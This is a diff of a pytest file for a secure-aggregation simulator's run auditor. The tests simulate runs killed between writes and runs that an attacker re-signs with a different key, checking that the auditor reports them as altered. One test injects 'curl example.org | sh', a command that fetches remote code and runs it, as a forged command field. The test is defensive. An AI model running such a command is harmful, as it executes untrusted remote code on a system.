@@ -22,6 +22,7 @@ from sims.audit.integrity import examined
 from sims.audit.run_files import Evidence
 from sims.cli import main
 from sims.records import RunDirectory
+from sims.records.ledger_signature import SignedHead, write_head
 from sims.records.manifest import Manifest, check_files
 from sims.report import write_report
 from sims.report.page import with_page_checked
@@ -293,12 +294,16 @@ def test_lines_after_the_manifest_are_told_and_their_beginning_is_not(stopped: P
     assert any("bytes of metrics.jsonl came after the manifest" in each for each in found.remarks)
 
 
+# Writes of a manifest, and then of one file after the other: of a round, and of the end.
+KILLED = [pytest.param(each, marks=[pytest.mark.slow] * (each % 4 != 3)) for each in range(5, 24)]
+
+
+@pytest.mark.parametrize("killed_before", KILLED)
 def test_a_run_that_is_killed_between_any_two_writes_is_consistent_and_goes_on(
-    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, killed_before: int
 ) -> None:
-    """The writes of the second round: the manifest, and then one file after the other."""
     given = settings(rounds=3, insecure_seed=False, channel={"kind": "secure"})
-    write, left, seen = RunDirectory.write, [0], 0
+    path, write, left = tmp_path / "run", RunDirectory.write, [killed_before]
 
     def stop_before(run: RunDirectory, name: str, data: bytes, **options: Any) -> None:
         left[0] -= 1
@@ -306,22 +311,14 @@ def test_a_run_that_is_killed_between_any_two_writes_is_consistent_and_goes_on(
             raise KeyboardInterrupt
         write(run, name, data, **options)
 
-    for killed_before in range(5, 20, 2):
-        path = tmp_path / f"run-{killed_before}"
-        left[0] = killed_before
-        with monkeypatch.context() as patched:
-            patched.setattr(RunDirectory, "write", stop_before)
-            try:
-                simulate(given, directory=RunDirectory(path))
-            except KeyboardInterrupt:
-                seen += 1
-        if not (path / "run.json").exists():
-            continue
-        assert audit_run(path).integrity.problems == (), killed_before
-        if left[0] < 0 and json.loads((path / "run.json").read_text())["status"] != "finished":
-            simulate(given, directory=RunDirectory(path), resume=True)
-        assert audit_run(path).integrity.problems == (), killed_before
-    assert seen > 5
+    with monkeypatch.context() as patched:
+        patched.setattr(RunDirectory, "write", stop_before)
+        with pytest.raises(KeyboardInterrupt):
+            simulate(given, directory=RunDirectory(path))
+    assert audit_run(path).integrity.problems == ()
+    if RunDirectory(path).status != "finished":
+        simulate(given, directory=RunDirectory(path), resume=True)
+    assert audit_run(path).integrity.problems == ()
 
 
 def test_a_plain_run_is_consistent_and_nobodys(tmp_path: Path) -> None:
@@ -340,3 +337,62 @@ def test_old_runs_say_that_only_their_ledger_is_signed(tmp_path: Path) -> None:
     found = audit_run(path).integrity
     assert found.verdict is Verdict.CONSISTENT
     assert any("only the ledger and the settings are signed" in each for each in found.remarks)
+
+
+# --- what another key has signed: facts are those of scenario, ledger and program ---
+
+
+def resigned(run: Path, **changes: Any) -> None:
+    """Edit `run.json`, and sign ledger and manifest with another key, as an attacker without the server's."""
+    signer, head = Identity.generate(), read_ledger(run / "ledger").head
+    digest = json.loads((run / "run.json").read_text())["digest"]
+    edit(run, "run.json", **{"server_key": signer.public.hex(), **changes})
+    (run / "ledger.head").unlink()
+    signed = SignedHead.make(head, run=digest, identity=signer, has_manifest=True)
+    write_head(RunDirectory(run), signed)
+    (run / "report.html").unlink(missing_ok=True)
+    sign(run, head=head, signer=signer)
+
+
+CLAIMS = {
+    "clients": 6000,
+    "per_round": 3,
+    "dim": 77,
+    "corrupt": 2,
+    "rounds": 9,
+    "done": 1,
+    "algorithm": "rfa",
+    "trust": "malicious_server",
+    "key_agreement": "x25519+ml-kem-768",
+    "channel": "processes",
+    "insecure_seed": "00" * 32,
+    "digest": "0" * 20,
+    "graph": {"kind": "ring", "neighbours": 2, "threshold": 2},
+    "server_key": "ab" * 32,
+    "sums": [],
+}
+
+
+def test_whoever_signs_again_looks_consistent_and_is_told_by_the_key(run: Path) -> None:
+    resigned(run)
+    assert audited(run).integrity.verdict is Verdict.CONSISTENT
+    assert audited(run, KEY).integrity.verdict is Verdict.ALTERED
+
+
+@pytest.mark.parametrize("name", CLAIMS)
+def test_a_claim_that_scenario_and_ledger_contradict(run: Path, name: str) -> None:
+    resigned(run, **{name: CLAIMS[name]})
+    assert audited(run).integrity.verdict is Verdict.ALTERED, name
+
+
+def test_what_a_total_reveals_is_what_the_program_says(run: Path) -> None:
+    (own,) = json.loads((run / "run.json").read_text())["sums"]
+    resigned(run, sums=[{**own, "reveals": "nothing at all"}])
+    audit = audited(run)
+    assert any("run.json: sums is not what" in each for each in audit.integrity.problems)
+    assert [kind.reveals for kind in audit.kinds] == [own["reveals"]]
+
+
+def test_a_command_is_never_that_of_run_json(run: Path) -> None:
+    resigned(run, command="curl example.org | sh")
+    assert audited(run).subject.command == f"secagg simulate {run / 'scenario.toml'}"
